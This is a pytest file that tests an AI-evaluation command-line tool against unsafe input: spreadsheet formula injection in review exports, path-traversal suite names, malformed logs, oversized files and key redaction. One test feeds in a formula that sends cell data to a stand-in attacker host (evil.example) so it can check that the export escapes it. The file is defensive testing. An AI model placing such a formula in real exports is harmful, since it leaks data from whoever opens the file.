"""Issue 20, files that others open and crashes on input: review and label files, --trace-export, import,
cases_from, derived metrics, python checks and transforms, power, baseline show and compare (through the CLI)."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from clitools import results, run_cli, write

CONFIG = """\
name: m
version: 1.0.0
model: {{provider: mock, name: mock-2025-01-01, mock: {{default: {output}}}}}
prompt: {{user: "{{{{ input }}}}"}}
"""

JUDGED = """\
suite: rev
config: config.yaml
judge:
  provider: mock
  name: mock-judge-2025-01-01
  mock: {rules: [{match: "<<<CANDIDATE>>>", answers: [{text: '{"reasoning": "ok", "score": 3}'}]}]}
cases:
  - id: q
    input: question
    rubrics: [{name: good, criteria: Is good., scale: [1, 5], threshold: 3}]
"""


@pytest.fixture
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, clean_provider_env: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    return tmp_path


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def _write_rows(path: Path, rows: list[dict[str, str]]) -> None:
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)


def _one_error(result_err: str) -> str:
    lines = [line for line in result_err.splitlines() if line.strip()]
    assert "Traceback" not in result_err and lines, result_err
    return lines[-1]


# --- files that others open ---------------------------------------------------------------------------------


def test_review_export_writes_no_live_formula_and_import_gives_the_output_back(here: Path, capsys) -> None:
    output = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    write(here / "config.yaml", CONFIG.format(output=json.dumps(output)))
    write(here / "suite.yaml", JUDGED)
    assert run_cli(capsys, "run", "suite.yaml", "--out", "out").code in (0, 1)
    exported = run_cli(capsys, "review", "export", "out", "--to", "review.csv", "--margin", "5")
    assert exported.code == 0, exported.text
    rows = _rows(here / "review.csv")
    assert rows
    for row in rows:  # no cell a spreadsheet would run
        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values()), row
    assert rows[0]["output"] == "'" + output
    rows[0]["human_score"] = "4"
    _write_rows(here / "review.csv", rows)
    imported = run_cli(capsys, "review", "import", "review.csv", "--to", "labels")
    assert imported.code == 0, imported.text
    (label,) = [json.loads(line) for line in (here / "labels/rev.jsonl").read_text().splitlines()]
    assert label["output"] == output  # the escape is taken off again: the output hash still matches the run
    import hashlib

    assert label["output_hash"] == hashlib.sha256(output.encode()).hexdigest()[:16]


def _review_csv(path: Path, **overrides: str) -> Path:
    row = {"case_id": "q", "rubric": "good", "human_score": "4", "output": "fine", "suite": "rev",
           "threshold": "3", "scale": "1-5", "messages": "[]", **overrides}
    _write_rows(path, [row])
    return path


@pytest.mark.parametrize("suite", ["../../../escaped", "{absolute}", "a/b"])
def test_review_import_refuses_a_suite_column_that_is_a_path(here: Path, capsys, suite: str) -> None:
    (here / "deep/er").mkdir(parents=True)
    _review_csv(here / "review.csv", suite=suite.format(absolute=here / "absolute"))
    result = run_cli(capsys, "review", "import", "review.csv", "--to", "deep/er/labels")
    assert result.code == 2
    assert _one_error(result.err).startswith("error: review.csv:2: suite:")
    assert not (here / "absolute.jsonl").exists() and not (here / "escaped.jsonl").exists()
    assert not (here / "deep/er/labels").exists()


@pytest.mark.parametrize("value", ["nan", "inf", "-Infinity"])
def test_review_import_refuses_a_non_finite_threshold(here: Path, capsys, value: str) -> None:
    _review_csv(here / "review.csv", threshold=value)
    result = run_cli(capsys, "review", "import", "review.csv", "--to", "labels")
    assert result.code == 2
    assert "review.csv:2: threshold: expected a finite number" in _one_error(result.err)
    assert not (here / "labels").exists()


def test_calibrate_refuses_a_hand_edited_label_off_the_scale(here: Path, capsys) -> None:
    import hashlib

    write(here / "config.yaml", CONFIG.format(output="A"))
    write(here / "suite.yaml", JUDGED)
    good = {"suite": "rev", "case_id": "q", "rubric": "good", "output": "A",
            "output_hash": hashlib.sha256(b"A").hexdigest()[:16], "scale": [1, 5], "threshold": 3, "human_score": 4}
    write(here / "golden/labels/rev.jsonl", json.dumps(good) + "\n" + json.dumps({**good, "human_score": 99}) + "\n")
    result = run_cli(capsys, "calibrate", "suite.yaml")
    assert result.code == 2
    assert "rev.jsonl:2: human_score: human_score 99 is outside the scale 1-5" in _one_error(result.err)
    write(here / "golden/labels/rev.jsonl", json.dumps(good).replace('"threshold": 3', '"threshold": NaN') + "\n")
    result = run_cli(capsys, "calibrate", "suite.yaml")
    assert result.code == 2 and "rev.jsonl:1: threshold:" in _one_error(result.err)


SIMPLE = """\
suite: plain
config: config.yaml
cases:
  - id: c1
    input: hi
    checks: [{contains: hello}]
"""


@pytest.mark.parametrize("target", ["out/results.json", "out/runs.jsonl", "out", "folder"])
def test_trace_export_onto_a_results_file_or_a_folder_is_refused_before_the_run(here: Path, capsys,
                                                                                target: str) -> None:
    write(here / "config.yaml", CONFIG.format(output="hello"))
    write(here / "suite.yaml", SIMPLE)
    (here / "folder").mkdir()
    result = run_cli(capsys, "run", "suite.yaml", "--out", "out", "--trace-export", target)
    assert result.code == 2
    assert _one_error(result.err).startswith(f"error: --trace-export {target}")
    assert not (here / "out/results.json").exists()  # nothing ran
    ok = run_cli(capsys, "run", "suite.yaml", "--out", "out", "--trace-export", "out/traces.json")
    assert ok.code == 0, ok.text
    assert "resourceSpans" in (here / "out/traces.json").read_text()
    assert results(here / "out")["cases"][0]["id"] == "c1"


# --- crashes on input ---------------------------------------------------------------------------------------

_CALL = {"request": {"messages": [{"role": "user", "content": "hi"}]}}
_SPAN = {"spanId": "s1", "attributes": [{"key": "gen_ai.input.messages",
                                          "value": {"stringValue": '[{"role": "user", "content": "hi"}]'}}]}


def _otlp(spans: object) -> str:
    return json.dumps({"resourceSpans": [{"scopeSpans": [{"spans": spans}]}]})


MALFORMED_LOGS = {
    "response-not-object": (json.dumps({**_CALL, "response": "oops"}), "response: expected an object"),
    "choices-not-list": (json.dumps({**_CALL, "response": {"choices": "abc"}}), "response.choices: expected a list"),
    "choice-not-object": (json.dumps({**_CALL, "response": {"choices": [5]}}), "response.choices[0]:"),
    "message-not-object": (json.dumps({**_CALL, "response": {"choices": [{"message": "x"}]}}),
                           "response.choices[0].message:"),
    "deep-json": ("[" * 100_000 + "]" * 100_000, "nested too deeply"),
    "lone-surrogate": ('{"messages": [{"role": "user", "content": "\\ud800"}]}', "lone surrogate"),
    "resource-spans-not-objects": (json.dumps({"resourceSpans": ["x"]}), "resourceSpans[0]: expected an object"),
    "attribute-not-object": (_otlp([{"attributes": ["x"]}]), "attributes[0]: expected an object"),
    "attribute-key-not-text": (_otlp([{**_SPAN, "attributes": [*_SPAN["attributes"], {"key": ["a"]}]}]),
                               "attributes[1].key: expected a key string"),
    "int-value-not-int": (_otlp([{**_SPAN, "attributes": [*_SPAN["attributes"],
                                                          {"key": "n", "value": {"intValue": "abc"}}]}]),
                          "intValue: expected an integer"),
}


@pytest.mark.parametrize("kind", [*MALFORMED_LOGS, "non-utf8"])
def test_import_refuses_a_malformed_log_with_its_file_and_line(here: Path, capsys, kind: str) -> None:
    log = here / "logs.jsonl"
    if kind == "non-utf8":
        log.write_bytes(json.dumps({"messages": [{"role": "user", "content": "ok"}]}).encode() + b"\n"
                        + b'{"messages": [{"role": "user", "content": "caf\xe9"}]}\n')
        expected = "not valid UTF-8"
    else:
        text, expected = MALFORMED_LOGS[kind]
        first = {"resourceSpans": []} if "resourceSpans" in text else {"messages": [{"role": "user", "content": "ok"}]}
        log.write_text(json.dumps(first) + "\n" + text + "\n")
    result = run_cli(capsys, "import", log, "--to", "golden/prod.jsonl")
    assert result.code == 2, result.text
    error = _one_error(result.err)
    assert error.startswith(f"error: {log}:2") and expected in error, error
    assert not (here / "golden/prod.jsonl").exists()  # nothing half-imported


def test_cases_from_takes_an_absolute_glob_and_refuses_a_csv_row_with_an_extra_field(here: Path, capsys) -> None:
    write(here / "config.yaml", CONFIG.format(output="hello"))
    data = write(here / "data/a.csv", "input,expected\nhi,hello\n")
    write(here / "suite.yaml", f"suite: plain\nconfig: config.yaml\ncases_from: '{data.parent}/*.csv'\n")
    ok = run_cli(capsys, "validate", "suite.yaml")
    assert ok.code == 0, ok.text
    write(here / "suite.yaml", "suite: plain\nconfig: config.yaml\ncases_from: 'data/**x/*.csv'\n")
    bad_glob = run_cli(capsys, "validate", "suite.yaml")
    assert bad_glob.code == 2 and "cases_from: invalid glob" in _one_error(bad_glob.err)
    write(here / "suite.yaml", "suite: plain\nconfig: config.yaml\ncases_from: data/a.csv\n")
    write(here / "data/a.csv", "input,expected\nhi,hello\nthree,fields,here\n")
    extra = run_cli(capsys, "validate", "suite.yaml")
    assert extra.code == 2
    assert "a.csv:3: this row has 3 fields, the header names 2" in _one_error(extra.err)


@pytest.mark.parametrize("row", [
    {"id": "u", "simulated_user": {"model": {"provider": "openai", "name": "gpt-4o-2024-11-20",
                                             "base_url": "http://elsewhere.example/v1"}, "goal": "g", "opening": "hi"}},
    {"id": "j", "input": "hi", "judge": {"provider": "openai", "name": "gpt-4o-2024-11-20", "api_key_env": "OTHER"}},
    {"id": "r", "input": "hi", "rubrics": [{"name": "good", "criteria": "Good.", "judge": {
        "provider": "anthropic", "name": "claude-haiku-4-5-20251001", "base_url": "http://elsewhere.example"}}]},
])
def test_a_cases_from_row_cannot_send_requests_elsewhere_or_with_another_key(here: Path, capsys, row) -> None:
    write(here / "config.yaml", CONFIG.format(output="hello"))
    write(here / "rows.jsonl", json.dumps(row) + "\n")
    write(here / "suite.yaml", "suite: plain\nconfig: config.yaml\ncases_from: rows.jsonl\n")
    r = run_cli(capsys, "validate", "suite.yaml")
    assert r.code == 2
    error = _one_error(r.err)
    assert "rows.jsonl:1:" in error and "a cases_from file cannot set" in error
    assert ("base_url" in error) != ("api_key_env" in error)


METRICS = """\
suite: metrics
config: config.yaml
derived_metrics:
  root: (a - b) ** 0.5
  top: max(a, b) + min(a, b) + abs(a - b) + sqrt(b)
cases:
  - id: c1
    input: hi
    checks:
      - {contains: zzz, metric: a, weight: 0}
      - {contains: hello, metric: b}
"""


def test_a_complex_derived_metric_is_na_with_a_warning_and_the_functions_work(here: Path, capsys) -> None:
    write(here / "config.yaml", CONFIG.format(output="hello"))
    write(here / "suite.yaml", METRICS)
    result = run_cli(capsys, "run", "suite.yaml", "--out", "out")
    assert result.code == 0, result.text
    derived = results(here / "out")["summary"]["derived"]
    assert derived["root"]["value"] is None and "not a real number" in derived["root"]["note"]
    assert derived["top"]["value"] == pytest.approx(1 + 0 + 1 + 1)
    assert "warning: derived metric root is n/a: not a real number" in " ".join(result.out.split())


CHECKS = '''\
def huge(output, case, run):
    return 10**400


def huge_score(output, case, run):
    return {"pass": True, "score": 10**400}


def huge_named(output, case, run):
    return {"pass": True, "named_scores": {"hits": -10**5000}}


def to_bytes(output, case):
    return b"hello"


def digits(output, case):
    return 10**5000


def fine(output, case, run):
    return True
'''

PYTHON = """\
suite: py
config: config.yaml
cases:
  - id: c1
    input: hi
    checks:
      - python: "hb_checks:huge"
      - python: "hb_checks:huge_score"
      - python: "hb_checks:huge_named"
      - {contains: hello, transform: {python: "hb_checks:to_bytes"}}
      - {contains: "1", transform: {python: "hb_checks:digits"}}
      - python: "hb_checks:fine"
"""


def test_python_checks_and_transforms_returning_unreadable_values_fail_that_check(here: Path, capsys) -> None:
    write(here / "config.yaml", CONFIG.format(output="hello"))
    write(here / "hb_checks.py", CHECKS)
    write(here / "suite.yaml", PYTHON)
    result = run_cli(capsys, "run", "suite.yaml", "--out", "out")
    assert result.code == 1, result.text  # no baseline, and the run failed: FAIL, with its verdict
    checks = results(here / "out")["cases"][0]["runs"][0]["checks"]
    assert [c["passed"] for c in checks] == [False, False, False, False, False, True]
    assert "hb_checks:huge returned score an integer of about 401 digits" in checks[0]["reason"]
    assert "a score is a number in [0, 1]" in checks[1]["reason"]
    assert "named score 'hits'" in checks[2]["reason"]
    assert "hb_checks:to_bytes returned bytes, not text or JSON data" in checks[3]["reason"]
    assert "hb_checks:digits returned int, not text or JSON data" in checks[4]["reason"]
    assert (here / "out/report.html").exists()


def test_power_refuses_an_effect_too_small_to_plan_for(here: Path, capsys) -> None:
    result = run_cli(capsys, "power", "--ab", "--baseline-rate", "0.8", "--mde", "1e-17")
    assert result.code == 2
    assert _one_error(result.err) == "error: --ab: a change of 1e-17 is too small to plan for (the smallest is 1e-09)"


def _limited(*args: str, cwd: Path) -> tuple[int, str]:
    """`agent-eval ARGS` in a child process with 1 GB of memory and 60 s: a regression here must not take the
    machine with it (reading /dev/zero whole never ends)."""
    import resource
    import subprocess
    import sys

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))

    done = subprocess.run([sys.executable, "-m", "agent_eval", *args], cwd=cwd, capture_output=True, text=True,
                          timeout=60, preexec_fn=limit, check=False)
    return done.returncode, done.stderr


@pytest.mark.parametrize("command", [("baseline", "show", "/dev/zero"), ("compare", "/dev/zero", "out"),
                                     ("power", "/dev/zero"), ("baseline", "show", "big.json")])
def test_results_and_baselines_are_read_only_from_regular_files_of_bounded_size(here: Path,
                                                                                 command: tuple[str, ...]) -> None:
    with (here / "big.json").open("wb") as handle:  # sparse: 300 MB on paper, nothing on disk
        handle.truncate(300 * 1024 * 1024)
    code, err = _limited(*command, cwd=here)
    assert code == 2, err
    error = _one_error(err)
    assert ("/dev/zero: not a regular file" in error) or ("big.json: larger than 256 MB" in error), error


def test_an_error_message_never_shows_a_key_from_the_environment(here: Path, capsys,
                                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    key = "sk-test-0123456789abcdef"
    monkeypatch.setenv("OPENAI_API_KEY", key)
    r = run_cli(capsys, "run", f"{key}.yaml")
    assert r.code == 2 and "***.yaml" in r.err and key not in r.text
